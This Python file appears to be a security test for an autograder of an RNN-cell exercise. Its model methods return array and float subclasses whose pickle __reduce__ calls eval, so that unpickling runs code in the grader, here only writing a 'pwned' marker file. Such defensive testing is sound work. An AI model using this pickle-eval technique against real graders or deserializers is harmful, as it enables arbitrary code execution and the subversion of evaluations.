"""Attack: returns objects whose pickle form runs code when the grader unpickles them.

call(), softmax(), activate() and loss() return an np.ndarray / float subclass whose
``__reduce__`` is ``(eval, (code,))``. If the grader ships results out of the sandbox with
pickle (multiprocessing, concurrent.futures, ...) the code runs in the grader's own process.
The payload is harmless: it writes "pwned" to the file named by $RNN_ATTACK_MARKER (if set)
and evaluates to plain zeros, so the values are wrong anyway. The grader must not unpickle
student data (use JSON/npz with allow_pickle=False) and gives no marks; the marker file must
not appear.
"""
from __future__ import annotations

import numpy as np

_TOUCH = (
    "(__import__('pathlib').Path(__import__('os').environ['RNN_ATTACK_MARKER']).write_text('pwned')"
    " if 'RNN_ATTACK_MARKER' in __import__('os').environ else None)"
)


class Payload(np.ndarray):
    def __reduce__(self):
        return (eval, (f"({_TOUCH}, __import__('numpy').zeros({tuple(self.shape)!r}))[1]",))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


class PayloadFloat(float):
    def __reduce__(self):
        return (eval, (f"({_TOUCH}, 0.0)[1]",))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def _p(shape):
    return np.zeros(shape).view(Payload)


class MyRNNCell:
    def __init__(self, units: int, activation: str = "tanh", labels: int = 2, random_state: int = 0) -> None:
        self.units = units
        self.activation = activation
        self.labels = labels
        self.random_state = random_state
        self.U = self.W = self.V = self.b = self.c = None
        self.y_hat = None
        self.built = False

    def build(self, input_shape: tuple[int, int]) -> None:
        n_x = int(input_shape[-1])
        self.U = _p((self.units, n_x))
        self.W = _p((self.units, self.units))
        self.V = _p((self.labels, self.units))
        self.b = _p((self.units, 1))
        self.c = _p((self.labels, 1))
        self.built = True

    def activate(self, z: np.ndarray) -> np.ndarray:
        return _p(np.shape(z))

    def softmax(self, o: np.ndarray) -> np.ndarray:
        return _p(np.shape(o))

    def loss(self, y_true: np.ndarray, y_hat: np.ndarray) -> float:
        return PayloadFloat(0.0)

    def call(self, xt: np.ndarray, ht_1: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
        if not self.built:
            self.build(np.shape(xt))
        batch = np.shape(xt)[0]
        self.y_hat = _p((self.labels, batch))
        return _p((self.labels, batch)), _p((self.units, batch))

    def __call__(self, xt: np.ndarray, ht_1: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
        return self.call(xt, ht_1)
